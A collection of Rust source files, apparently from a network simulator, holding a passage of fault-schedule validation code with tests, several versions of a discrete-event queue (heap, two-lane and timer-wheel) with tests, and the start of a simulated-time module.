            let label = if p.name.is_empty() {
                format!("phase #{i}")
            } else {
                format!("phase {:?}", p.name)
            };
            p.plan
                .validate()
                .map_err(|e| format!("{label}: {e}"))?;
            let (from, to) = p.window();
            if from >= to {
                return Err(format!(
                    "{label}: window [{from}, {to}) is empty or inverted"
                ));
            }
            if let Some(r) = p.ramp {
                for (name, v) in [("ramp.start", r.start), ("ramp.end", r.end)] {
                    if !v.is_finite() || v < 0.0 {
                        return Err(format!("{label}: {name} = {v} must be finite and >= 0"));
                    }
                }
                if p.from_ms.is_none() || p.to_ms.is_none() {
                    return Err(format!("{label}: a ramp requires a finite window"));
                }
            }
            if p.is_outage() && (p.from_ms.is_none() || p.to_ms.is_none()) {
                return Err(format!(
                    "{label}: an outage (drop_chance >= 1) must have a finite window"
                ));
            }
        }
        let outages: Vec<(usize, &FaultPhase)> = self
            .phases
            .iter()
            .enumerate()
            .filter(|(_, p)| p.is_outage())
            .collect();
        for (ai, (i, a)) in outages.iter().enumerate() {
            for (j, b) in outages.iter().skip(ai + 1) {
                let (af, at) = a.window();
                let (bf, bt) = b.window();
                if af < bt && bf < at {
                    return Err(format!(
                        "outage phases #{i} ({:?}) and #{j} ({:?}) have overlapping windows",
                        a.name, b.name
                    ));
                }
            }
        }
        Ok(())
    }

    /// Total scheduled blackout time in minutes (sum of outage windows,
    /// counting overlap-free validated phases; unscoped and scoped alike).
    pub fn outage_minutes(&self) -> u64 {
        self.phases
            .iter()
            .filter(|p| p.is_outage())
            .map(|p| {
                let (from, to) = p.window();
                (to.saturating_sub(from)) / 60_000
            })
            .sum()
    }

    /// Scheduled blackout minutes overlapping `[from_ms, to_ms)` — what the
    /// gap-aware telescope aggregation discounts from its denominator.
    pub fn outage_minutes_between(&self, from_ms: u64, to_ms: u64) -> u64 {
        self.phases
            .iter()
            .filter(|p| p.is_outage())
            .map(|p| {
                let (f, t) = p.window();
                t.min(to_ms).saturating_sub(f.max(from_ms)) / 60_000
            })
            .sum()
    }

    /// Phases active at `t` whose scope matches, for the fabric's per-packet
    /// evaluation.
    #[inline]
    pub fn matching(
        &self,
        t: SimTime,
        service: crate::addr::SockAddr,
        dir: Direction,
    ) -> impl Iterator<Item = &FaultPhase> {
        self.phases
            .iter()
            .filter(move |p| p.active_at(t) && p.scope.matches(service, dir))
    }
}

/// Whether `addr` is churned dark during the slot containing `t`, as a pure
/// hash of (seed, address, slot). No RNG stream is consumed, so churn is
/// deterministic regardless of event interleaving, and a host that goes dark
/// returns as soon as the slot rolls over.
#[inline]
pub fn churn_dark(seed: u64, addr: Ipv4Addr, t: SimTime, chance: f64, period_ms: u64) -> bool {
    if chance <= 0.0 {
        return false;
    }
    let slot = t.0 / period_ms.max(1);
    let h = rng::splitmix64(
        seed ^ 0x6368_7572_6e5f_6e65 ^ ((u32::from(addr) as u64) << 21) ^ slot.rotate_left(43),
    );
    // Map the top 53 bits to [0, 1): exact for every representable chance.
    ((h >> 11) as f64) * (1.0 / (1u64 << 53) as f64) < chance
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::{ip, SockAddr};

    #[test]
    fn presets_valid() {
        FaultPlan::NONE.validate().unwrap();
        FaultPlan::LOSSY.validate().unwrap();
        FaultSchedule::none().validate().unwrap();
        FaultSchedule::lossy().validate().unwrap();
        FaultSchedule::hostile().validate().unwrap();
        assert!(FaultSchedule::none().is_none());
        assert!(!FaultSchedule::lossy().is_none());
    }

    #[test]
    fn rejects_bad_probabilities() {
        let bad = FaultPlan {
            drop_chance: 1.5,
            ..FaultPlan::NONE
        };
        assert!(bad.validate().is_err());
        let nan = FaultPlan {
            corrupt_chance: f64::NAN,
            ..FaultPlan::NONE
        };
        assert!(nan.validate().is_err());
        let churn = FaultPlan {
            churn_chance: 0.1,
            churn_period_ms: 0,
            ..FaultPlan::NONE
        };
        assert!(churn.validate().is_err());
        let sched = FaultSchedule::uniform(bad);
        assert!(sched.validate().is_err());
    }

    #[test]
    fn rejects_inverted_window_and_unwindowed_ramp() {
        let mut s = FaultSchedule::uniform(FaultPlan::LOSSY);
        s.phases[0].from_ms = Some(100);
        s.phases[0].to_ms = Some(100);
        assert!(s.validate().unwrap_err().contains("inverted"));

        let mut s = FaultSchedule::uniform(FaultPlan::LOSSY);
        s.phases[0].ramp = Some(Ramp { start: 0.0, end: 1.0 });
        assert!(s.validate().unwrap_err().contains("finite window"));
    }

    #[test]
    fn rejects_overlapping_outages() {
        let outage = |from: u64, to: u64| FaultPhase {
            name: format!("outage-{from}"),
            from_ms: Some(from),
            to_ms: Some(to),
            plan: FaultPlan {
                drop_chance: 1.0,
                ..FaultPlan::NONE
            },
            ..FaultPhase::default()
        };
        let ok = FaultSchedule {
            phases: vec![outage(0, 100), outage(100, 200)],
        };
        ok.validate().unwrap();
        let bad = FaultSchedule {
            phases: vec![outage(0, 100), outage(50, 200)],
        };
        assert!(bad.validate().unwrap_err().contains("overlapping"));
        let unbounded = FaultSchedule {
            phases: vec![FaultPhase {
                plan: FaultPlan {
                    drop_chance: 1.0,
                    ..FaultPlan::NONE
                },
                ..FaultPhase::default()
            }],
        };
        assert!(unbounded.validate().is_err());
    }

    #[test]
    fn windows_scopes_and_ramps() {
        let phase = FaultPhase {
            from_ms: Some(1_000),
            to_ms: Some(2_000),
            scope: FaultScope {
                dst: Some("10.0.0.0/8".parse().unwrap()),
                ports: vec![23],
                direction: Direction::Forward,
            },
            plan: FaultPlan {
                drop_chance: 0.5,
                ..FaultPlan::NONE
            },
            ramp: Some(Ramp { start: 0.0, end: 4.0 }),
            ..FaultPhase::default()
        };
        assert!(!phase.active_at(SimTime(999)));
        assert!(phase.active_at(SimTime(1_000)));
        assert!(!phase.active_at(SimTime(2_000)));
        let telnet = SockAddr::new(ip(10, 1, 2, 3), 23);
        assert!(phase.scope.matches(telnet, Direction::Forward));
        assert!(!phase.scope.matches(telnet, Direction::Reverse));
        assert!(!phase.scope.matches(SockAddr::new(ip(10, 1, 2, 3), 80), Direction::Forward));
        assert!(!phase.scope.matches(SockAddr::new(ip(11, 0, 0, 1), 23), Direction::Forward));
        // Ramp 0→4 on drop 0.5: zero at the start, 1x (0.5) a quarter in,
        // and clamped to 1.0 near the end (raw value would be ~2).
        assert_eq!(phase.drop_chance_at(SimTime(1_000)), 0.0);
        assert!((phase.drop_chance_at(SimTime(1_250)) - 0.5).abs() < 1e-9);
        assert_eq!(phase.drop_chance_at(SimTime(1_999)), 1.0);
    }

    #[test]
    fn outage_minutes_sums_windows() {
        assert_eq!(FaultSchedule::hostile().outage_minutes(), 360);
        assert_eq!(FaultSchedule::lossy().outage_minutes(), 0);
    }

    #[test]
    fn churn_is_pure_and_flaps() {
        let addr = ip(10, 3, 4, 5);
        let t = SimTime(5_000_000);
        assert_eq!(
            churn_dark(7, addr, t, 0.3, 600_000),
            churn_dark(7, addr, t, 0.3, 600_000)
        );
        assert!(!churn_dark(7, addr, t, 0.0, 600_000));
        assert!(churn_dark(7, addr, t, 1.0, 600_000));
        // Across many slots roughly `chance` of them are dark, and at least
        // one transition happens (the host flaps rather than dying).
        let dark: Vec<bool> = (0..200u64)
            .map(|slot| churn_dark(7, addr, SimTime(slot * 600_000), 0.3, 600_000))
            .collect();
        let n = dark.iter().filter(|&&d| d).count();
        assert!(n > 20 && n < 120, "churn fraction wildly off: {n}/200");
        assert!(dark.windows(2).any(|w| w[0] != w[1]));
    }

    #[test]
    fn schedule_serde_round_trips() {
        let s = FaultSchedule::hostile();
        let json = serde_json::to_string_pretty(&s).unwrap();
        let back: FaultSchedule = serde_json::from_str(&json).unwrap();
        assert_eq!(s, back);
        // CIDR scopes serialize as readable strings.
        let scoped = FaultSchedule {
            phases: vec![FaultPhase {
                scope: FaultScope {
                    dst: Some("44.0.0.0/8".parse().unwrap()),
                    ..FaultScope::default()
                },
                plan: FaultPlan::LOSSY,
                ..FaultPhase::default()
            }],
        };
        let json = serde_json::to_string(&scoped).unwrap();
        assert!(json.contains("\"44.0.0.0/8\""), "{json}");
        assert_eq!(serde_json::from_str::<FaultSchedule>(&json).unwrap(), scoped);
        // Sparse hand-written phases parse via defaults.
        let sparse: FaultSchedule = serde_json::from_str(
            r#"{ "phases": [ { "name": "loss", "plan": { "drop_chance": 0.1 } } ] }"#,
        )
        .unwrap();
        assert_eq!(sparse.phases[0].plan.drop_chance, 0.1);
        assert_eq!(sparse.phases[0].plan.jitter_ms, 0);
    }
}
