//! The discrete-event queue at the heart of the simulator.
//!
//! Events are ordered by (time, sequence number): ties in simulated time are
//! broken by insertion order, which keeps the simulation deterministic without
//! requiring every producer to pick unique timestamps.
//!
//! Since the paper-scale rework the queue is backed by a hierarchical timer
//! wheel ([`crate::wheel::TimerWheel`]) — `O(1)` schedule, near-`O(1)` pop —
//! instead of a binary heap. The heap survives as [`HeapQueue`], the oracle
//! the differential property suite (`tests/wheel_props.rs`) checks the wheel
//! against, and as the ablation baseline in the `hotpath` bench.

use std::cmp::Ordering;
use std::collections::BinaryHeap;

use crate::fasthash::FastSet;
use crate::time::SimTime;
use crate::wheel::TimerWheel;

/// A scheduled event carrying a payload of type `E`.
#[derive(Debug)]
struct Scheduled<E> {
    at: u64,
    seq: u64,
    payload: E,
}

impl<E> PartialEq for Scheduled<E> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<E> Eq for Scheduled<E> {}

impl<E> Ord for Scheduled<E> {
    fn cmp(&self, other: &Self) -> Ordering {
        // Reverse order: BinaryHeap is a max-heap, we want earliest-first.
        other
            .at
            .cmp(&self.at)
            .then_with(|| other.seq.cmp(&self.seq))
    }
}
impl<E> PartialOrd for Scheduled<E> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// The retained binary-heap priority queue: the differential-testing oracle
/// for [`TimerWheel`] and the bench baseline it is measured against.
///
/// Same contract as the wheel: items ordered by `(tick, seq)`, caller-
/// assigned unique seqs, `cancel` by seq of a still-pending item.
#[derive(Debug)]
pub struct HeapQueue<E> {
    heap: BinaryHeap<Scheduled<E>>,
    cancelled: FastSet<u64>,
    len: usize,
}

impl<E> Default for HeapQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> HeapQueue<E> {
    pub fn new() -> Self {
        HeapQueue {
            heap: BinaryHeap::new(),
            cancelled: FastSet::default(),
            len: 0,
        }
    }

    pub fn insert(&mut self, tick: u64, seq: u64, payload: E) {
        self.heap.push(Scheduled { at: tick, seq, payload });
        self.len += 1;
    }

    /// Cancel a pending item by seq (same lazy-tombstone contract as the
    /// wheel: the item must be scheduled and not yet popped or cancelled).
    pub fn cancel(&mut self, seq: u64) {
        if self.cancelled.insert(seq) {
            self.len -= 1;
        }
    }

    pub fn pop(&mut self) -> Option<(u64, u64, E)> {
        loop {
            let ev = self.heap.pop()?;
            if !self.cancelled.is_empty() && self.cancelled.remove(&ev.seq) {
                continue;
            }
            self.len -= 1;
            return Some((ev.at, ev.seq, ev.payload));
        }
    }

    pub fn peek(&mut self) -> Option<(u64, u64)> {
        loop {
            let ev = self.heap.peek()?;
            if !self.cancelled.is_empty() && self.cancelled.contains(&ev.seq) {
                let ev = self.heap.pop().expect("peeked");
                self.cancelled.remove(&ev.seq);
                continue;
            }
            return Some((ev.at, ev.seq));
        }
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }
}

/// A deterministic earliest-first event queue, backed by a hierarchical
/// timer wheel.
///
/// The queue owns the two pieces of state the wheel delegates to its caller:
/// the strictly-increasing sequence counter (the deterministic tie-break for
/// same-tick events) and the simulation clock, to which past schedules are
/// clamped so time never runs backwards. The observable pop sequence is the
/// exact global `(time, seq)` order — byte-identical to the binary-heap
/// implementation it replaced, which `tests/wheel_props.rs` proves by
/// differential testing against [`HeapQueue`].
#[derive(Debug)]
pub struct EventQueue<E> {
    wheel: TimerWheel<E>,
    next_seq: u64,
    now: SimTime,
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> EventQueue<E> {
    pub fn new() -> Self {
        EventQueue {
            wheel: TimerWheel::new(),
            next_seq: 0,
            now: SimTime::ZERO,
        }
    }

    /// Current simulated time: the timestamp of the most recently popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Force the clock forward (used when starting an experiment phase at a
    /// given calendar instant). Panics if this would move time backwards.
    pub fn advance_to(&mut self, t: SimTime) {
        assert!(t >= self.now, "cannot move simulated time backwards");
        self.now = t;
    }

    /// Schedule `payload` at absolute time `at`. Events scheduled in the past
    /// are clamped to `now` (they run next, in scheduling order). Returns the
    /// event's sequence number, usable with [`Self::cancel`].
    pub fn schedule(&mut self, at: SimTime, payload: E) -> u64 {
        let at = at.max(self.now);
        let seq = self.next_seq;
        self.next_seq += 1;
        self.wheel.insert(at.0, seq, payload);
        seq
    }

    /// Cancel a scheduled event by the seq [`Self::schedule`] returned. The
    /// event must still be pending (not popped, not already cancelled).
    pub fn cancel(&mut self, seq: u64) {
        self.wheel.cancel(seq);
    }

    /// Pop the earliest event, advancing the clock to its timestamp.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        let (tick, _seq, payload) = self.wheel.pop()?;
        debug_assert!(tick >= self.now.0);
        self.now = SimTime(tick);
        Some((self.now, payload))
    }

    /// Pop the earliest event if its timestamp is `<= deadline`, advancing
    /// the clock.
    pub fn pop_before(&mut self, deadline: SimTime) -> Option<(SimTime, E)> {
        let (tick, _) = self.wheel.peek()?;
        if tick > deadline.0 {
            return None;
        }
        self.pop()
    }

    /// Timestamp of the next event without popping it. `&mut` because the
    /// wheel prunes cancelled items while locating the minimum.
    pub fn peek_time(&mut self) -> Option<SimTime> {
        self.wheel.peek().map(|(tick, _)| SimTime(tick))
    }

    pub fn len(&self) -> usize {
        self.wheel.len()
    }

    pub fn is_empty(&self) -> bool {
        self.wheel.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn pops_in_time_order() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(30), "c");
        q.schedule(SimTime(10), "a");
        q.schedule(SimTime(20), "b");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["a", "b", "c"]);
    }

    #[test]
    fn ties_break_by_insertion_order() {
        let mut q = EventQueue::new();
        for label in ["first", "second", "third"] {
            q.schedule(SimTime(5), label);
        }
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["first", "second", "third"]);
    }

    #[test]
    fn clock_advances_with_pops() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), ());
        assert_eq!(q.now(), SimTime::ZERO);
        q.pop();
        assert_eq!(q.now(), SimTime(100));
    }

    #[test]
    fn past_events_clamp_to_now() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), "late");
        q.pop();
        q.schedule(SimTime(10), "early-but-past");
        let (t, _) = q.pop().unwrap();
        assert_eq!(t, SimTime(100)); // clamped, time never runs backwards
    }

    #[test]
    fn advance_to_moves_clock() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime::ZERO + SimDuration::from_days(31));
        assert_eq!(q.now().day_index(), 31);
    }

    #[test]
    #[should_panic(expected = "backwards")]
    fn advance_to_rejects_backwards() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime(10));
        q.advance_to(SimTime(5));
    }

    #[test]
    fn cancel_skips_event() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(10), "a");
        let doomed = q.schedule(SimTime(20), "b");
        q.schedule(SimTime(30), "c");
        q.cancel(doomed);
        assert_eq!(q.len(), 2);
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["a", "c"]);
    }

    #[test]
    fn schedule_after_advance_lands_in_far_window() {
        // advance_to moves the clock without popping; later schedules must
        // still order correctly across wheel levels.
        let mut q = EventQueue::new();
        q.advance_to(SimTime::ZERO + SimDuration::from_days(31));
        let day31 = q.now();
        q.schedule(day31 + SimDuration::from_days(30), "month-end");
        q.schedule(day31 + SimDuration::from_millis(1), "soon");
        q.schedule(day31, "now");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["now", "soon", "month-end"]);
    }
}
