//! The discrete-event queue at the heart of the simulator.
//!
//! Events are ordered by (time, sequence number): ties in simulated time are
//! broken by insertion order, which keeps the simulation deterministic without
//! requiring every producer to pick unique timestamps.

use std::cmp::Ordering;
use std::collections::{BinaryHeap, VecDeque};

use crate::time::SimTime;

/// A scheduled event carrying a payload of type `E`.
#[derive(Debug)]
struct Scheduled<E> {
    at: SimTime,
    seq: u64,
    payload: E,
}

impl<E> PartialEq for Scheduled<E> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<E> Eq for Scheduled<E> {}

impl<E> Ord for Scheduled<E> {
    fn cmp(&self, other: &Self) -> Ordering {
        // Reverse order: BinaryHeap is a max-heap, we want earliest-first.
        other
            .at
            .cmp(&self.at)
            .then_with(|| other.seq.cmp(&self.seq))
    }
}
impl<E> PartialOrd for Scheduled<E> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// A deterministic earliest-first event queue.
///
/// ## Two-lane design
///
/// Most simulator events are scheduled in nondecreasing timestamp order —
/// the dominant case is the fixed-delay connection-timeout backstop, which
/// fires `syn_timeout` after a clock that never runs backwards. Keeping
/// those in a FIFO lane ([`VecDeque`]) instead of the binary heap makes
/// both ends O(1) and shrinks the heap to the events that genuinely arrive
/// out of order (variable-latency deliveries), cutting its depth.
///
/// Routing is automatic: a scheduled event whose `(at, seq)` is `>=` the
/// FIFO's tail is appended there, everything else goes to the heap. Each
/// lane is individually sorted (the FIFO by construction, the heap by
/// heap order), so popping the smaller of the two heads merges them into
/// the exact global `(time, seq)` order — the observable pop sequence is
/// identical to a single-heap queue, which the determinism harness checks.
#[derive(Debug)]
pub struct EventQueue<E> {
    heap: BinaryHeap<Scheduled<E>>,
    /// Monotone lane: `(at, seq)` strictly increasing front-to-back.
    fifo: VecDeque<Scheduled<E>>,
    next_seq: u64,
    now: SimTime,
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> EventQueue<E> {
    pub fn new() -> Self {
        EventQueue {
            heap: BinaryHeap::with_capacity(1024),
            fifo: VecDeque::with_capacity(1024),
            next_seq: 0,
            now: SimTime::ZERO,
        }
    }

    /// Current simulated time: the timestamp of the most recently popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Force the clock forward (used when starting an experiment phase at a
    /// given calendar instant). Panics if this would move time backwards.
    pub fn advance_to(&mut self, t: SimTime) {
        assert!(t >= self.now, "cannot move simulated time backwards");
        self.now = t;
    }

    /// Schedule `payload` at absolute time `at`. Events scheduled in the past
    /// are clamped to `now` (they run next, in scheduling order).
    pub fn schedule(&mut self, at: SimTime, payload: E) {
        let at = at.max(self.now);
        let seq = self.next_seq;
        self.next_seq += 1;
        // seq is strictly increasing, so `at >= tail.at` keeps the FIFO
        // lane sorted by (at, seq).
        match self.fifo.back() {
            Some(tail) if at < tail.at => self.heap.push(Scheduled { at, seq, payload }),
            _ => self.fifo.push_back(Scheduled { at, seq, payload }),
        }
    }

    /// Whether the FIFO lane's head is the global minimum. `None` if both
    /// lanes are empty.
    #[inline]
    fn front_is_fifo(&self) -> Option<bool> {
        match (self.fifo.front(), self.heap.peek()) {
            (Some(f), Some(h)) => Some((f.at, f.seq) < (h.at, h.seq)),
            (Some(_), None) => Some(true),
            (None, Some(_)) => Some(false),
            (None, None) => None,
        }
    }

    /// Pop the earliest event, advancing the clock to its timestamp.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        let ev = if self.front_is_fifo()? {
            self.fifo.pop_front()?
        } else {
            self.heap.pop()?
        };
        debug_assert!(ev.at >= self.now);
        self.now = ev.at;
        Some((ev.at, ev.payload))
    }

    /// Pop the earliest event if its timestamp is `<= deadline`, advancing
    /// the clock. Fuses [`Self::peek_time`] + [`Self::pop`] into one heap
    /// access for the simulator's `run_until` loop.
    pub fn pop_before(&mut self, deadline: SimTime) -> Option<(SimTime, E)> {
        let from_fifo = self.front_is_fifo()?;
        let head = if from_fifo {
            self.fifo.front()?
        } else {
            self.heap.peek()?
        };
        if head.at > deadline {
            return None;
        }
        let ev = if from_fifo {
            self.fifo.pop_front()?
        } else {
            self.heap.pop()?
        };
        self.now = ev.at;
        Some((ev.at, ev.payload))
    }

    /// Timestamp of the next event without popping it.
    pub fn peek_time(&self) -> Option<SimTime> {
        match (self.fifo.front(), self.heap.peek()) {
            (Some(f), Some(h)) => Some(f.at.min(h.at)),
            (Some(f), None) => Some(f.at),
            (None, Some(h)) => Some(h.at),
            (None, None) => None,
        }
    }

    pub fn len(&self) -> usize {
        self.heap.len() + self.fifo.len()
    }

    pub fn is_empty(&self) -> bool {
        self.heap.is_empty() && self.fifo.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn pops_in_time_order() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(30), "c");
        q.schedule(SimTime(10), "a");
        q.schedule(SimTime(20), "b");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["a", "b", "c"]);
    }

    #[test]
    fn ties_break_by_insertion_order() {
        let mut q = EventQueue::new();
        for label in ["first", "second", "third"] {
            q.schedule(SimTime(5), label);
        }
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["first", "second", "third"]);
    }

    #[test]
    fn clock_advances_with_pops() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), ());
        assert_eq!(q.now(), SimTime::ZERO);
        q.pop();
        assert_eq!(q.now(), SimTime(100));
    }

    #[test]
    fn past_events_clamp_to_now() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), "late");
        q.pop();
        q.schedule(SimTime(10), "early-but-past");
        let (t, _) = q.pop().unwrap();
        assert_eq!(t, SimTime(100)); // clamped, time never runs backwards
    }

    #[test]
    fn advance_to_moves_clock() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime::ZERO + SimDuration::from_days(31));
        assert_eq!(q.now().day_index(), 31);
    }

    #[test]
    #[should_panic(expected = "backwards")]
    fn advance_to_rejects_backwards() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime(10));
        q.advance_to(SimTime(5));
    }
}
