//! The discrete-event queue at the heart of the simulator.
//!
//! Events are ordered by (time, sequence number): ties in simulated time are
//! broken by insertion order, which keeps the simulation deterministic without
//! requiring every producer to pick unique timestamps.

use std::cmp::Ordering;
use std::collections::BinaryHeap;

use crate::time::SimTime;

/// A scheduled event carrying a payload of type `E`.
#[derive(Debug)]
struct Scheduled<E> {
    at: SimTime,
    seq: u64,
    payload: E,
}

impl<E> PartialEq for Scheduled<E> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<E> Eq for Scheduled<E> {}

impl<E> Ord for Scheduled<E> {
    fn cmp(&self, other: &Self) -> Ordering {
        // Reverse order: BinaryHeap is a max-heap, we want earliest-first.
        other
            .at
            .cmp(&self.at)
            .then_with(|| other.seq.cmp(&self.seq))
    }
}
impl<E> PartialOrd for Scheduled<E> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// A deterministic earliest-first event queue.
#[derive(Debug)]
pub struct EventQueue<E> {
    heap: BinaryHeap<Scheduled<E>>,
    next_seq: u64,
    now: SimTime,
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> EventQueue<E> {
    pub fn new() -> Self {
        EventQueue {
            heap: BinaryHeap::new(),
            next_seq: 0,
            now: SimTime::ZERO,
        }
    }

    /// Current simulated time: the timestamp of the most recently popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Force the clock forward (used when starting an experiment phase at a
    /// given calendar instant). Panics if this would move time backwards.
    pub fn advance_to(&mut self, t: SimTime) {
        assert!(t >= self.now, "cannot move simulated time backwards");
        self.now = t;
    }

    /// Schedule `payload` at absolute time `at`. Events scheduled in the past
    /// are clamped to `now` (they run next, in scheduling order).
    pub fn schedule(&mut self, at: SimTime, payload: E) {
        let at = at.max(self.now);
        let seq = self.next_seq;
        self.next_seq += 1;
        self.heap.push(Scheduled { at, seq, payload });
    }

    /// Pop the earliest event, advancing the clock to its timestamp.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        let ev = self.heap.pop()?;
        debug_assert!(ev.at >= self.now);
        self.now = ev.at;
        Some((ev.at, ev.payload))
    }

    /// Timestamp of the next event without popping it.
    pub fn peek_time(&self) -> Option<SimTime> {
        self.heap.peek().map(|e| e.at)
    }

    pub fn len(&self) -> usize {
        self.heap.len()
    }

    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn pops_in_time_order() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(30), "c");
        q.schedule(SimTime(10), "a");
        q.schedule(SimTime(20), "b");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["a", "b", "c"]);
    }

    #[test]
    fn ties_break_by_insertion_order() {
        let mut q = EventQueue::new();
        for label in ["first", "second", "third"] {
            q.schedule(SimTime(5), label);
        }
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, ["first", "second", "third"]);
    }

    #[test]
    fn clock_advances_with_pops() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), ());
        assert_eq!(q.now(), SimTime::ZERO);
        q.pop();
        assert_eq!(q.now(), SimTime(100));
    }

    #[test]
    fn past_events_clamp_to_now() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(100), "late");
        q.pop();
        q.schedule(SimTime(10), "early-but-past");
        let (t, _) = q.pop().unwrap();
        assert_eq!(t, SimTime(100)); // clamped, time never runs backwards
    }

    #[test]
    fn advance_to_moves_clock() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime::ZERO + SimDuration::from_days(31));
        assert_eq!(q.now().day_index(), 31);
    }

    #[test]
    #[should_panic(expected = "backwards")]
    fn advance_to_rejects_backwards() {
        let mut q: EventQueue<()> = EventQueue::new();
        q.advance_to(SimTime(10));
        q.advance_to(SimTime(5));
    }
}
