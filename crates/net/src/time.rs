//! Simulated time.
//!
//! The simulator never touches the wall clock. Time is a millisecond counter
//! anchored at the **simulation epoch**, 2021-03-01T00:00:00Z — the first scan
//! day in the paper (Appendix Table 9). Calendar arithmetic is provided so the
//! experiments can speak in the paper's terms ("the scans ran March 1–5 2021",
//! "the honeypots recorded attacks for April 2021", "Fig. 8 day 24").

use std::fmt;
use std::ops::{Add, AddAssign, Sub};

use serde::{Deserialize, Serialize};

/// The calendar date of `SimTime::ZERO`: 2021-03-01 (UTC).
pub const SIM_EPOCH_DATE: SimDate = SimDate {
    year: 2021,
    month: 3,
    day: 1,
};

/// An instant in simulated time, in milliseconds since the simulation epoch.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimTime(pub u64);

/// A span of simulated time, in milliseconds.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimDuration(pub u64);

impl SimDuration {
    pub const ZERO: SimDuration = SimDuration(0);

    pub const fn from_millis(ms: u64) -> Self {
        SimDuration(ms)
    }
    pub const fn from_secs(s: u64) -> Self {
        SimDuration(s * 1_000)
    }
    pub const fn from_mins(m: u64) -> Self {
        SimDuration(m * 60_000)
    }
    pub const fn from_hours(h: u64) -> Self {
        SimDuration(h * 3_600_000)
    }
    pub const fn from_days(d: u64) -> Self {
        SimDuration(d * 86_400_000)
    }

    pub const fn as_millis(self) -> u64 {
        self.0
    }
    pub const fn as_secs(self) -> u64 {
        self.0 / 1_000
    }
    /// Saturating multiplication by a scalar.
    pub const fn mul(self, k: u64) -> Self {
        SimDuration(self.0.saturating_mul(k))
    }
}

impl SimTime {
    pub const ZERO: SimTime = SimTime(0);

    pub const fn as_millis(self) -> u64 {
        self.0
    }

    /// Milliseconds elapsed since `earlier` (saturating at zero).
    pub const fn since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// Whole days elapsed since the simulation epoch.
    pub const fn day_index(self) -> u64 {
        self.0 / 86_400_000
    }

    /// Seconds-of-day, minutes-of-day helpers used by the telescope's
    /// minute-binned FlowTuple files.
    pub const fn minute_index(self) -> u64 {
        self.0 / 60_000
    }
    pub const fn hour_index(self) -> u64 {
        self.0 / 3_600_000
    }

    /// The calendar date this instant falls on.
    pub fn date(self) -> SimDate {
        SIM_EPOCH_DATE.plus_days(self.day_index() as i64)
    }

    /// Construct an instant from a calendar date (midnight UTC).
    pub fn from_date(date: SimDate) -> SimTime {
        let days = date.days_since(SIM_EPOCH_DATE);
        assert!(days >= 0, "date {date} precedes the simulation epoch");
        SimTime(days as u64 * 86_400_000)
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.0)
    }
}

impl AddAssign<SimDuration> for SimTime {
